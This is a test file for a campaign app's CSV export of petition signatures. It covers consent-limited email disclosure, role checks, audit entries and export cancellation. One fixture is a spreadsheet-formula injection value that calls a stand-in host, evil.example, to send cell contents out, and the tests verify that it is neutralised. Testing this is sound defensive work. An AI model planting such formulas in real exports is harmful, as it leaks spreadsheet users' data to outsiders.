import { randomUUID } from "node:crypto";
import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import type { Actor } from "../../lib/auth/authorize";
import { database, db } from "../../lib/db";
import { AppError, type ErrorCode } from "../../lib/errors";
import { encodeCsvRows, exportColumns, formulaStarts, type ExportRecord } from "../../lib/exports/csv";
import { exportSignaturesCsv } from "../../lib/exports/export-signatures-csv";
import type { ExportFilters } from "../../lib/exports/schema";
import { exportApplicationName, openKeysetPages, type RawQuery } from "../../lib/exports/signature-rows";
import type { MemberRole, SignatureState } from "../../lib/generated/prisma/enums";
import { sealSignatureFields, sealSupporterEmail } from "../../lib/sealing/signer-data";
import { insertConfirmedSignatures, streamChunks } from "../fixtures/bulk-signatures";
import { createCampaign, uniqueEmail } from "../fixtures/factories";

type Campaign = Awaited<ReturnType<typeof createCampaign>>;

async function createActor(memberships: { organisationId: string; role: MemberRole }[]): Promise<Actor> {
  const user = await db.user.create({ data: { email: uniqueEmail("organiser") } });
  await db.membership.createMany({ data: memberships.map((m) => ({ userId: user.id, ...m })) });
  return { userId: user.id, email: user.email, memberships };
}

async function insertSignature(
  campaign: Campaign,
  fields: {
    name: string;
    country?: string;
    postcode?: string;
    comment?: string;
    state?: SignatureState;
    confirmedAt?: Date;
    consentTo?: string[];
    unsubscribed?: boolean;
    locale?: "en" | "ar" | "tr";
    source?: string;
  },
) {
  const email = uniqueEmail();
  const supporter = await db.supporter.create({
    data: { ...(await sealSupporterEmail(email)), unsubscribedAt: fields.unsubscribed ? new Date() : null },
  });
  const state = fields.state ?? "CONFIRMED";
  const confirmedAt = state === "CONFIRMED" ? (fields.confirmedAt ?? new Date("2025-03-10T12:00:00.000Z")) : null;
  const id = randomUUID();
  await db.signature.create({
    data: {
      id,
      campaignId: campaign.id,
      supporterId: supporter.id,
      state,
      ...(await sealSignatureFields(campaign.id, id, { name: fields.name, postcode: fields.postcode, comment: fields.comment })),
      country: fields.country ?? "SY",
      locale: fields.locale ?? "en",
      source: fields.source ?? null,
      createdAt: new Date((confirmedAt ?? new Date("2025-03-10T12:00:00.000Z")).getTime() - 60_000),
      confirmedAt,
      consents: { create: (fields.consentTo ?? []).map((organisationId) => ({ organisationId })) },
    },
  });
  return { email, confirmedAt };
}

async function readText(stream: ReadableStream<Uint8Array>): Promise<string> {
  const chunks: Uint8Array[] = [];
  for await (const chunk of streamChunks(stream)) chunks.push(chunk);
  return new TextDecoder("utf-8", { ignoreBOM: true }).decode(Buffer.concat(chunks));
}

type Row = Record<(typeof exportColumns)[number], string>;

async function exportRows(actor: Actor, campaign: Campaign, filters: ExportFilters = {}) {
  const csv = await exportSignaturesCsv({ actor, campaignId: campaign.id, filters });
  const text = await readText(csv.stream);
  expect(text.startsWith("\uFEFF")).toBe(true);
  const records = parse(text.slice(1)) as string[][];
  expect(records[0]).toEqual([...exportColumns]);
  const rows = records.slice(1).map((record) => Object.fromEntries(exportColumns.map((column, i) => [column, record[i]])) as Row);
  return { csv, rows };
}

async function expectRefused(promise: Promise<unknown>, code: ErrorCode) {
  const error = await promise.then(
    () => null,
    (caught: unknown) => caught,
  );
  expect(error).toBeInstanceOf(AppError);
  expect((error as AppError).code).toBe(code);
}

async function auditEntries(campaign: Campaign) {
  return db.auditEntry.findMany({ where: { campaignId: campaign.id, action: "signatures.export" }, orderBy: { createdAt: "asc" } });
}

describe("exporting a campaign's signatures", () => {
  let campaign: Campaign;
  let orgA: string;
  let orgB: string;
  let organiserA: Actor;
  let organiserB: Actor;
  const formulaName = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")';
  const arabicComment = "أوقفوا القصف على المستشفيات، الآن.\nمن إدلب";
  const signers: Record<string, { email: string }> = {};

  beforeAll(async () => {
    // A coalition campaign: organisation A leads, B co-owns.
    campaign = await createCampaign({ coOwners: 1 });
    orgA = campaign.owners.find((owner) => owner.lead)!.organisationId;
    orgB = campaign.owners.find((owner) => !owner.lead)!.organisationId;
    organiserA = await createActor([{ organisationId: orgA, role: "ORGANISER" }]);
    organiserB = await createActor([{ organisationId: orgB, role: "ORGANISER" }]);

    signers.layla = await insertSignature(campaign, { name: "Layla Haddad", consentTo: [orgA], confirmedAt: new Date("2025-03-01T09:00:00.000Z"), locale: "ar", source: "whatsapp" });
    signers.formula = await insertSignature(campaign, {
      name: formulaName,
      country: "LB",
      postcode: "-123",
      comment: "+ call me",
      consentTo: [orgA, orgB],
      confirmedAt: new Date("2025-03-02T09:00:00.000Z"),
    });
    signers.arabic = await insertSignature(campaign, {
      name: "محمد الأحمد",
      comment: arabicComment,
      consentTo: [orgB],
      confirmedAt: new Date("2025-03-03T09:00:00.000Z"),
    });
    signers.unsubscribed = await insertSignature(campaign, {
      name: "Omar Unsubscribed",
      country: "TR",
      consentTo: [orgA],
      unsubscribed: true,
      confirmedAt: new Date("2025-03-04T09:00:00.000Z"),
    });
    signers.early = await insertSignature(campaign, { name: "@early signer", country: "DE", confirmedAt: new Date("2025-02-10T23:59:59.999Z") });
    signers.pending = await insertSignature(campaign, { name: "Pending Person", state: "PENDING", consentTo: [orgA] });
    signers.invalidated = await insertSignature(campaign, { name: "Invalidated Person", state: "INVALIDATED", consentTo: [orgA] });
    // Another campaign of the same organisation: none of its signatures belong in this export.
    const other = await createCampaign();
    await db.campaignOwner.create({ data: { campaignId: other.id, organisationId: orgA } });
    await insertSignature(other, { name: "Elsewhere Signer", consentTo: [orgA] });
  });

  it("holds every confirmed signature, oldest confirmation first, and nothing else", async () => {
    const { rows, csv } = await exportRows(organiserA, campaign);
    expect(rows.map((row) => row.name)).toEqual(["'@early signer", "Layla Haddad", `'${formulaName}`, "محمد الأحمد", "Omar Unsubscribed"]);
    expect(csv.expectedRows).toBe(5);
    expect(csv.fileName).toMatch(new RegExp(`^${campaign.slug}-signatures-\\d{4}-\\d{2}-\\d{2}\\.csv$`));
  });

  it("writes each column, with timestamps in ISO 8601 UTC, the signer's language and the channel they came by", async () => {
    const { rows } = await exportRows(organiserA, campaign);
    expect(rows[2]).toMatchObject({ language: "en", channel: "" });
    expect(rows[1]).toEqual({
      name: "Layla Haddad",
      email: signers.layla!.email,
      country: "SY",
      postcode: "",
      comment: "",
      signed_at: "2025-03-01T08:59:00.000Z",
      confirmed_at: "2025-03-01T09:00:00.000Z",
      language: "ar",
      channel: "whatsapp",
    });
  });

  it("neutralises every cell that a spreadsheet would run as a formula", async () => {
    const { rows } = await exportRows(organiserA, campaign);
    const formula = rows.find((row) => row.country === "LB")!;
    expect(formula.name).toBe(`'${formulaName}`);
    expect(formula.postcode).toBe("'-123");
    expect(formula.comment).toBe("'+ call me");
    expect(rows[0]!.name).toBe("'@early signer");
  });

  it("keeps Arabic text and line breaks intact", async () => {
    const { rows } = await exportRows(organiserA, campaign);
    const arabic = rows.find((row) => row.name === "محمد الأحمد")!;
    expect(arabic.comment).toBe(arabicComment);
  });

  it("gives e-mail addresses only of signers who consented to the exporting organisation and are still subscribed", async () => {
    const { rows } = await exportRows(organiserA, campaign);
    expect(Object.fromEntries(rows.map((row) => [row.name, row.email]))).toEqual({
      "'@early signer": "",
      "Layla Haddad": signers.layla!.email,
      [`'${formulaName}`]: signers.formula!.email,
      "محمد الأحمد": "",
      "Omar Unsubscribed": "",
    });
  });

  it("lets a coalition co-owner export only its own consenters' addresses", async () => {
    const { rows } = await exportRows(organiserB, campaign);
    expect(rows).toHaveLength(5);
    expect(rows.filter((row) => row.email !== "").map((row) => row.email)).toEqual([signers.formula!.email, signers.arabic!.email]);
  });

  it("filters by confirmation date (both ends inclusive), country and consent", async () => {
    const names = async (filters: ExportFilters) => (await exportRows(organiserA, campaign, filters)).rows.map((row) => row.name);
    expect(await names({ from: new Date("2025-03-02T00:00:00.000Z"), to: new Date("2025-03-03T23:59:59.999Z") })).toEqual([
      `'${formulaName}`,
      "محمد الأحمد",
    ]);
    expect(await names({ to: new Date("2025-02-10T23:59:59.999Z") })).toEqual(["'@early signer"]);
    expect(await names({ country: "TR" })).toEqual(["Omar Unsubscribed"]);
    expect(await names({ consentedOnly: true })).toEqual(["Layla Haddad", `'${formulaName}`]);
    expect((await exportRows(organiserB, campaign, { consentedOnly: true })).rows.map((row) => row.email)).toEqual([
      signers.formula!.email,
      signers.arabic!.email,
    ]);
  });

  it("writes the header alone when no signature matches", async () => {
    const { rows, csv } = await exportRows(organiserA, campaign, { country: "FR" });
    expect(rows).toEqual([]);
    expect(csv.expectedRows).toBe(0);
  });

  it("lets an owner export, refuses a viewer, and hides the campaign from other organisations", async () => {
    const owner = await createActor([{ organisationId: orgA, role: "OWNER" }]);
    expect((await exportRows(owner, campaign)).rows).toHaveLength(5);
    const viewer = await createActor([{ organisationId: orgA, role: "VIEWER" }]);
    await expectRefused(exportSignaturesCsv({ actor: viewer, campaignId: campaign.id }), "FORBIDDEN");
    const outsiderCampaign = await createCampaign();
    const outsider = await createActor([{ organisationId: outsiderCampaign.owners[0]!.organisationId, role: "OWNER" }]);
    await expectRefused(exportSignaturesCsv({ actor: outsider, campaignId: campaign.id }), "NOT_FOUND");
    await expectRefused(exportSignaturesCsv({ actor: organiserA, campaignId: "no-such-campaign" }), "NOT_FOUND");
  });

  it("records each export in the audit log with its filters and the rows sent", async () => {
    const fresh = await createCampaign();
    const organisationId = fresh.owners[0]!.organisationId;
    const actor = await createActor([{ organisationId, role: "ORGANISER" }]);
    await insertSignature(fresh, { name: "Audited Signer", country: "LB" });
    await insertSignature(fresh, { name: "Other Signer", country: "SY" });
    await exportRows(actor, fresh, { country: "LB", consentedOnly: false });
    const [entry] = await auditEntries(fresh);
    expect(entry).toMatchObject({ organisationId, userId: actor.userId, action: "signatures.export", affected: 1 });
    expect(entry!.details).toEqual({ filters: { country: "LB", consentedOnly: false }, expectedRows: 1, status: "completed" });
  });
});

// On PostgreSQL the rows come through a cursor on a connection of the export's own; on PGlite
// through keyset pages of the app's connection. A file must not depend on which database the site
// runs on.
describe.skipIf(!process.env.DATABASE_URL)("the same file from PostgreSQL's cursor as from keyset pages", () => {
  it("writes byte for byte what keyset pages give, quoting, line breaks and formulas included", async () => {
    const campaign = await createCampaign();
    const organisationId = campaign.owners[0]!.organisationId;
    const actor = await createActor([{ organisationId, role: "ORGANISER" }]);
    const names = [
      ...formulaStarts.map((start) => `${start}SUM(A1)`),
      'He said "no", twice',
      '"quoted"',
      "line\nbreak",
      "lone\rreturn",
      "crlf\r\ninside",
      " leading space",
      "محمد الأحمد",
      "a=b",
    ];
    let minute = 0;
    for (const name of names) {
      minute += 1;
      await insertSignature(campaign, {
        name,
        postcode: minute % 2 ? "-12" : undefined,
        comment: minute % 3 ? "" : "أوقفوا القصف،\nالآن",
        consentTo: minute % 2 ? [organisationId] : [],
        confirmedAt: new Date(Date.UTC(2025, 2, 1, 9, minute)),
      });
    }

    const csv = await exportSignaturesCsv({ actor, campaignId: campaign.id });
    const text = await readText(csv.stream);

    const run: RawQuery = <T>(sql: string, params: unknown[]) => db.$queryRawUnsafe<T[]>(sql, ...params);
    const pages = await openKeysetPages(run, { campaignId: campaign.id, organisationId, filters: {} });
    const records: ExportRecord[] = [];
    for (let batch = await pages.next(); batch; batch = await pages.next()) records.push(...batch);
    expect(records).toHaveLength(names.length);
    expect(text).toBe(encodeCsvRows(records, { header: true }));
  });
});

describe("cancelling an export", () => {
  const total = 5_000;
  const batchSize = 500;

  async function bigCampaign(options: { secondsApart?: number } = {}) {
    const campaign = await createCampaign();
    const organisationId = campaign.owners[0]!.organisationId;
    await insertConfirmedSignatures((text, params) => db.$executeRawUnsafe(text, ...params), {
      campaignId: campaign.id,
      count: total,
      prefix: `c${randomUUID().slice(0, 8)}`,
      consentTo: organisationId,
      secondsApart: options.secondsApart,
    });
    const actor = await createActor([{ organisationId, role: "ORGANISER" }]);
    return { campaign, actor };
  }

  // The export's own connections, identified by their application name (PostgreSQL only); the
  // parallel workers of its query carry the same name.
  async function exportConnections(campaignId: string): Promise<number> {
    const rows = await db.$queryRawUnsafe<{ count: number }[]>(
      "SELECT count(*)::int AS count FROM pg_stat_activity WHERE application_name = $1 AND backend_type = 'client backend'",
      exportApplicationName(campaignId),
    );
    return rows[0]!.count;
  }

  // Once an export has ended: its connection is gone (PostgreSQL) and the audit entry says how.
  async function expectEnded(campaign: Campaign, status: "completed" | "cancelled", rowsSent: number) {
    if (database().kind === "postgres") {
      // The client has closed its socket; the server process ends a moment later.
      await expect.poll(() => exportConnections(campaign.id), { timeout: 5_000, interval: 20 }).toBe(0);
    }
    const [entry] = await auditEntries(campaign);
    expect(entry!.details).toMatchObject({ status, expectedRows: total });
    expect(entry!.affected).toBe(rowsSent);
  }

  it("releases the database connection as soon as the reader cancels, and records the rows sent", async () => {
    const { campaign, actor } = await bigCampaign();
    const csv = await exportSignaturesCsv({ actor, campaignId: campaign.id, batchSize });
    expect(csv.expectedRows).toBe(total);
    const reader = csv.stream.getReader();
    const decoder = new TextDecoder("utf-8", { ignoreBOM: true });
    let text = "";
    // The header, then the first rows.
    for (let read = 0; read < 2; read += 1) {
      const chunk = await reader.read();
      expect(chunk.done).toBe(false);
      text += decoder.decode(chunk.value, { stream: true });
    }
    const rowsRead = text.split("\r\n").length - 2;
    expect(rowsRead).toBeGreaterThan(0);
    expect(rowsRead).toBeLessThan(total);
    if (database().kind === "postgres") expect(await exportConnections(campaign.id)).toBe(1);

    await reader.cancel();
    await expectEnded(campaign, "cancelled", rowsRead);
  });

  it("gives the database connection back once the whole file is read", async () => {
    const { campaign, actor } = await bigCampaign();
    const csv = await exportSignaturesCsv({ actor, campaignId: campaign.id, batchSize });
    const text = await readText(csv.stream);
    expect(text.split("\r\n")).toHaveLength(total + 2);
    await expectEnded(campaign, "completed", total);
  });

  it("releases them when the request's signal aborts", async () => {
    const { campaign, actor } = await bigCampaign();
    const controller = new AbortController();
    const csv = await exportSignaturesCsv({ actor, campaignId: campaign.id, batchSize, signal: controller.signal });
    const reader = csv.stream.getReader();
    await reader.read();
    controller.abort(new Error("client went away"));
    await expect(reader.read()).rejects.toThrow("client went away");
    if (database().kind === "postgres") {
      await expect.poll(() => exportConnections(campaign.id), { timeout: 5_000, interval: 20 }).toBe(0);
    }
    await expect.poll(async () => (await auditEntries(campaign))[0]!.details).toMatchObject({ status: "cancelled" });
  });

  it("fetches no further batch once closed (keyset pages, as on PGlite)", async () => {
    const { campaign } = await bigCampaign();
    let queries = 0;
    const counting: RawQuery = <T>(text: string, params: unknown[]) => {
      queries += 1;
      return db.$queryRawUnsafe<T[]>(text, ...params);
    };
    const pages = await openKeysetPages(counting, { campaignId: campaign.id, organisationId: campaign.owners[0]!.organisationId, filters: {} }, { batchSize });
    expect(pages.expectedRows).toBe(total);
    expect(await pages.next()).toHaveLength(batchSize);
    const before = queries;
    await pages.close();
    expect(await pages.next()).toBeNull();
    expect(queries).toBe(before);
  });

  it("reads every row exactly once across keyset pages, even when many share one confirmation time", async () => {
    const { campaign } = await bigCampaign({ secondsApart: 0 });
    const run: RawQuery = <T>(text: string, params: unknown[]) => db.$queryRawUnsafe<T[]>(text, ...params);
    const pages = await openKeysetPages(run, { campaignId: campaign.id, organisationId: campaign.owners[0]!.organisationId, filters: {} }, { batchSize: 700 });
    const names: string[] = [];
    for (let batch = await pages.next(); batch; batch = await pages.next()) names.push(...batch.map((row) => row[exportColumns.indexOf("name")]!));
    expect(names).toHaveLength(total);
    expect(new Set(names).size).toBe(total);
  });
});
